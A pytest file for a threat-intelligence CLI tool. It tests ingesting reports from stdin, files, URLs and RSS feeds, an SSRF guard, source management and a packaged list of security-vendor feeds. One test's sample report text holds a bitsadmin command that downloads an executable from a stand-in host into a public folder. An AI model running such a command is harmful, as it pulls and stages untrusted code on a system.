"""The ingest, sources and articles commands, run in-process against a real store and feed server."""

from __future__ import annotations

import json

import pytest
from typer.testing import CliRunner

from ctistudio.cli.main import app
from ctistudio.testing.feed_server import FeedItem, rss_feed


@pytest.fixture
def cli(settings, monkeypatch):
    """Invoke ``ctistudio``; each call loads settings afresh, as a new process would."""
    runner = CliRunner()

    def invoke(*args: str, input: str | None = None):
        return runner.invoke(app, list(args), input=input)

    return invoke


def test_demo_then_list_and_show(cli):
    result = cli("ingest", "demo", "--json")
    assert result.exit_code == 0, result.output
    stored = json.loads(result.stdout)
    assert stored["status"] == "new" and stored["hunt_score"] >= 90
    listed = json.loads(cli("articles", "list", "--json").stdout)
    assert listed["total"] == 1
    row = listed["articles"][0]
    assert set(row) >= {"id", "title", "url", "hunt_score", "platforms", "status", "duplicate_of", "published_at"}
    shown = json.loads(cli("articles", "show", str(row["id"]), "--json").stdout)
    assert shown["content"].startswith("# Operation Paper Lantern")
    assert shown["hunt_evidence"][0]["matches"]
    human = cli("articles", "show", str(row["id"]))
    assert human.exit_code == 0 and "hunt score 100/100" in human.stdout


def test_missing_article_fails_with_a_fix(cli):
    result = cli("articles", "show", "42")
    assert result.exit_code == 1
    assert "no article with id 42" in result.stderr and "articles list" in result.stderr


def test_text_from_stdin_and_file_refusal(cli, tmp_path):
    text = "The actor executed bitsadmin /transfer job http://198.51.100.4/a.exe C:\\Users\\Public\\a.exe twice."
    result = cli("ingest", "file", "-", "--title", "Pasted", "--json", input=text)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["title"] == "Pasted"
    again = cli("ingest", "text", "--json", input=text)
    assert json.loads(again.stdout)["status"] == "duplicate"
    garbage = tmp_path / "blob.bin"
    garbage.write_bytes(bytes(range(256)) * 10)
    refused = cli("ingest", "file", str(garbage))
    assert refused.exit_code == 1 and "binary content that is not a PDF" in refused.stderr


def test_ingest_url_and_feed(cli, feed_server, report_page):
    page = feed_server.add("/one", report_page("Single page"))
    result = cli("ingest", "url", page, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["title"] == "Single page"
    items = [FeedItem(f"Entry {n}", feed_server.add(f"/e{n}", report_page(f"Entry {n}"))) for n in range(3)]
    feed = feed_server.add("/feed.xml", rss_feed("lab", items), "application/rss+xml")
    result = cli("ingest", "feed", feed)
    assert result.exit_code == 0, result.output
    assert "3 entries: 3 new" in result.stdout


def test_ingest_url_refused_by_the_ssrf_guard(cli, feed_server, monkeypatch):
    monkeypatch.setenv("CTISTUDIO_ALLOW_PRIVATE_FETCH", "false")
    result = cli("ingest", "url", feed_server.add("/x", "<p>x</p>"))
    assert result.exit_code == 1
    assert "loopback address 127.0.0.1" in result.stderr and "CTISTUDIO_ALLOW_PRIVATE_FETCH" in result.stderr


def test_sources_file_add_disable_and_a_run(cli, feed_server, report_page, tmp_path):
    items = [FeedItem("Lab report", feed_server.add("/r1", report_page("Lab report")))]
    feed = feed_server.add("/feed.xml", rss_feed("lab", items), "application/rss+xml")
    sources_file = tmp_path / "sources.yaml"
    sources_file.write_text(
        f"sources:\n  - id: lab\n    name: Local Lab\n    url: {feed_server.base_url}/\n    rss_url: {feed}\n"
        f"  - id: broken\n    name: Broken\n    url: {feed_server.base_url}/\n    rss_url: {feed_server.url('/404')}\n",
        encoding="utf-8",
    )
    result = cli("ingest", "sources", "--once", "--sources-file", str(sources_file), "--json")
    assert result.exit_code == 0, result.output
    run = json.loads(result.stdout)
    assert run["articles_new"] == 1 and run["sources"]["broken"]["status"] == "failed"
    assert "HTTP 404" in run["sources"]["broken"]["error"]

    added = cli(
        "sources",
        "add",
        "extra",
        "--name",
        "Extra",
        "--url",
        "https://extra.example/",
        "--rss-url",
        "https://extra.example/feed",
        "--json",
    )
    assert added.exit_code == 0, added.output
    assert cli("sources", "disable", "lab").exit_code == 0
    listed = {row["id"]: row for row in json.loads(cli("sources", "list", "--all", "--json").stdout)}
    assert listed["lab"]["active"] is False and listed["extra"]["active"] is True
    assert listed["broken"]["health"]["consecutive_failures"] == 1
    assert len(listed) > 40  # the packaged default sources were loaded too
    shown = json.loads(cli("sources", "show", "broken", "--json").stdout)
    assert shown["checks"][0]["status"] == "failed"
    bad = cli("sources", "add", "bad id!", "--name", "x", "--url", "ftp://x", "--rss-url", "https://x/feed")
    assert bad.exit_code == 1 and "invalid source" in bad.stderr


def test_packaged_sources_are_valid_and_plenty(cli):
    from ctistudio.ingest.sources_config import load_sources

    sources = load_sources()
    assert len(sources) >= 30
    names = {s.name for s in sources}
    for expected in (
        "The DFIR Report",
        "Huntress Blog",
        "Red Canary Blog",
        "Elastic Security Labs",
        "Microsoft Threat Intelligence",
        "Palo Alto Networks Unit 42",
        "Cisco Talos Intelligence",
        "Kaspersky Securelist",
        "SentinelLabs",
        "Google Threat Intelligence (Mandiant)",
        "Sekoia.io Blog",
        "ESET WeLiveSecurity",
        "Proofpoint Threat Insight",
        "CISA Cybersecurity Advisories",
    ):
        assert expected in names
    assert all(s.rss_url and s.rss_url.startswith("https://") for s in sources)
